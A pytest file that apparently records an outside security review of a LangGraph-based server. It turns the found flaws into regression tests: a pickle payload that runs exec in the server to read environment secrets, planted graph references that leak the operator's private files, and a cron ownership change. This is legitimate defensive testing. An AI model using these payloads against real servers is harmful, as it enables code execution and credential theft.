"""Outside review of served mode (issue 34): reproductions of the weaknesses found, written as the tests the owner
wants to pass. Each FAILS on the reviewed code (branch review-serve) and says what it shows.

The server is `langgraph dev` as tests/test_serve.py starts it: two callers' tokens (alice, bob), the operator's
API key and Neo4j password in its environment, an imported graph in its catalog and a 0600 file of the operator's
outside every folder a caller may name. Every attack is made by a caller with a valid token, through the API a
caller has (runs, `update_state` of its own thread), with nothing but JSON.

Root cause of the first three: a stored graph reference (`graph_ref` in a thread's state, which its caller may
write) is checked by `nodes/served.py:check_graph_ref` for its `location` only (inside the catalog, with a
manifest). `tools/pgraph/registry.py:_resolve_stored` then ignores that location whenever the reference's
`fingerprint` differs from the manifest's and rebuilds the graph from the reference's `source` — any path on the
server, in any `format`, the STaRK one included, which `pickle.load`s `node_info.pkl`.

Run: PYTHONPATH=$PWD .venv/bin/pytest tests/review/test_serve_review.py -p no:cacheprovider
"""

from __future__ import annotations

import base64
import os
import pickle
import re
import stat

import httpx
import pytest
from langgraph_sdk import get_client
from langgraph_sdk.errors import APIStatusError

from kgagents.evals.grbench import fixture_graph
from kgagents.tools.pgraph import import_graph
from tests.test_studio import DEMO_SCRIPT, serve

pytestmark = pytest.mark.slow

ALICE = "alice-token-" + "a1" * 12
BOB = "bob-token-" + "b2" * 12
API_KEY = "sk-canary-operator-key-6c1f0d"
NEO4J_PASSWORD = "canary-neo4j-password-93ab"


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("review")
    (tmp / "runs").mkdir()
    import_graph(fixture_graph("goodreads"), name="goodreads", to=tmp / "graphs" / "goodreads")
    operator = tmp / "operator"
    operator.mkdir(mode=0o700)
    for name, text in (("secrets.txt", f"OPENAI_API_KEY={API_KEY}\nNEO4J_PASSWORD={NEO4J_PASSWORD}\n"),
                       ("private.tsv", "vault_code\tis\t4417\nalice_salary\tis\t120000 USD\n")):
        (operator / name).write_text(text, encoding="utf-8")
        os.chmod(operator / name, stat.S_IRUSR | stat.S_IWUSR)
    yield from serve(tmp, KGAGENTS_SERVE_TOKENS=f"alice:{ALICE},bob:{BOB}", KGAGENTS_MODEL=f"scripted:{DEMO_SCRIPT}",
                     KGAGENTS_SERVE_MODELS=f"scripted:{DEMO_SCRIPT}", KGAGENTS_API_KEY=API_KEY,
                     OPENAI_API_KEY=API_KEY, NEO4J_USER="neo4j", NEO4J_PASSWORD=NEO4J_PASSWORD)


async def ark_thread_paused_after_loading(client, **extra_input) -> tuple[str, dict]:
    """An ARK-V1 thread of the caller, paused once its inline graph is built into the catalog's cache: its id
    and state (``graph_ref`` is a location inside the catalog, ``attachments`` the server paths of the files the
    caller attached as content)."""
    thread = await client.threads.create()
    run = await client.runs.create(thread["thread_id"], "ark", interrupt_after=["initialise_context"],
                                   input={"question": "Who?", "kg": [["a", "b", {"relation": "r"}]], **extra_input})
    await client.runs.join(thread["thread_id"], run["run_id"])
    return thread["thread_id"], (await client.threads.get_state(thread["thread_id"]))["values"]


async def error_of(client, thread_id: str, graph_id: str, graph_input: dict | None) -> str:
    """Run ``graph_id`` on the thread; the run's error text ('' when it succeeded)."""
    try:
        await client.runs.wait(thread_id, graph_id, input=graph_input, raise_error=True)
    except (APIStatusError, httpx.HTTPStatusError, Exception) as exc:  # the SDK raises a bare Exception
        return str(exc)
    return ""


# --------------------------------------------------------------------------------------------------------------
# 1. Critical: a caller runs code in the server process (outside the sandbox), with the operator's environment
# --------------------------------------------------------------------------------------------------------------
class _Payload:
    """A pickle that, when loaded, writes what the server's environment holds into ``marker`` (benign: a file)."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        code = (f"import os; open({self.marker!r}, 'w').write(os.environ.get('KGAGENTS_API_KEY', '') + ' ' + "
                "os.environ.get('NEO4J_PASSWORD', ''))")
        return exec, (code,)


async def test_a_planted_graph_ref_does_not_unpickle_an_attachment_in_the_server(server):
    """Alice attaches ``node_info.pkl`` *as content* (allowed: it is written into her run's own attachments
    folder, whose path her state shows), then writes into her ARK thread's state a ``graph_ref`` whose location
    is her own inline graph's cache build (inside the catalog: check_graph_ref passes), whose fingerprint is
    wrong and whose source is that attachments folder with ``format: stark``. Resuming the thread makes
    ``_resolve_stored`` rebuild from the source: the STaRK loader ``pickle.load``s her file in the server
    process. Before the fix the marker file holds the operator's API key and Neo4j password."""
    url, tmp = server
    alice = get_client(url=url, api_key=ALICE)
    marker = tmp / "code-ran-in-the-server"
    pkl = base64.b64encode(pickle.dumps(_Payload(str(marker)))).decode()
    thread_id, values = await ark_thread_paused_after_loading(
        alice, attachments=[{"name": "node_info.pkl", "content_base64": pkl}])
    folder = values["attachments"][0].rsplit("/", 1)[0]
    planted = {**values["graph_ref"], "fingerprint": "0" * 16, "source": folder, "format": "stark"}
    try:
        await alice.threads.update_state(thread_id, {"graph_ref": planted})
    except APIStatusError as exc:  # refusing the planted reference outright is a fix too
        assert exc.status_code in (400, 403, 422)
    else:
        await error_of(alice, thread_id, "ark", None)
    assert not marker.exists(), f"code ran in the server process and read: {marker.read_text()}"


# --------------------------------------------------------------------------------------------------------------
# 2. High: a caller reads files of the server (the first line of any .txt/.tsv/.csv in an error; whole files that
#    parse as a graph in its state)
# --------------------------------------------------------------------------------------------------------------
async def test_a_planted_graph_ref_reads_no_line_of_a_server_file(server):
    """The same planted reference with ``source`` a 0600 operator file and ``format: triples``: the loader's
    error, which the caller gets back, quotes the file's first line (`.txt`, `.tsv`, `.csv`: "expected
    head<TAB>relation<TAB>tail, got 'OPENAI_API_KEY=sk-…'")."""
    url, tmp = server
    alice = get_client(url=url, api_key=ALICE)
    thread_id, values = await ark_thread_paused_after_loading(alice)
    planted = {**values["graph_ref"], "fingerprint": "0" * 16, "source": str(tmp / "operator" / "secrets.txt"),
               "format": "triples"}
    await alice.threads.update_state(thread_id, {"graph_ref": planted})
    text = await error_of(alice, thread_id, "ark", None)
    assert API_KEY not in text, f"the operator's file came back in the run's error: {text[:300]}"


async def test_a_planted_graph_ref_reads_no_whole_server_file(server):
    """Two runs of graph-rag: the first planted reference (wrong fingerprint) builds the operator's 0600
    ``private.tsv`` into the shared catalog cache and its error tells the build's real fingerprint; the second,
    with that fingerprint, opens it, and the run's retrieval puts the file's triples into the caller's state."""
    url, tmp = server
    alice = get_client(url=url, api_key=ALICE)
    _, values = await ark_thread_paused_after_loading(alice)
    planted = {**values["graph_ref"], "fingerprint": "0" * 16, "source": str(tmp / "operator" / "private.tsv"),
               "format": "triples"}
    question = {"question": "What is the vault code?", "graph": "goodreads"}
    found = ""
    for attempt in range(2):
        thread = await alice.threads.create()
        await alice.runs.wait(thread["thread_id"], "graph-rag", input=question)
        await alice.threads.update_state(thread["thread_id"], {"graph_ref": planted})
        text = await error_of(alice, thread["thread_id"], "graph-rag", question)
        found = str((await alice.threads.get_state(thread["thread_id"]))["values"].get("context"))
        fingerprint = re.search(r"fingerprint (\w+),", text)
        if attempt == 0 and fingerprint:
            planted = {**planted, "fingerprint": fingerprint.group(1)}
    assert "4417" not in found, f"the operator's file is in the caller's state: {found[:300]}"


# --------------------------------------------------------------------------------------------------------------
# 3. Low: a cron's owner is the caller's to change
# --------------------------------------------------------------------------------------------------------------
async def test_a_cron_stays_its_creators(server):
    """``update_cron`` (kgagents/serve/auth.py) does not pin ``owner`` in the metadata it merges, as
    ``update_thread`` and ``update_assistant`` do: bob gives his cron (bound to his thread) to alice, who may then
    change what it runs on bob's thread. The ownership rule ("a thread stays its creator's") does not hold for
    crons."""
    url, _ = server
    alice, bob = get_client(url=url, api_key=ALICE), get_client(url=url, api_key=BOB)
    thread = await bob.threads.create()
    cron = await bob.crons.create_for_thread(thread["thread_id"], "kgot", schedule="0 0 1 1 *",
                                             input={"question": "bob's"})
    try:
        updated = await bob.crons.update(cron["cron_id"], metadata={"owner": "alice"})
    except APIStatusError:
        return  # refused: fixed
    assert updated["metadata"].get("owner") == "bob", f"bob's cron now belongs to: {updated['metadata']}"
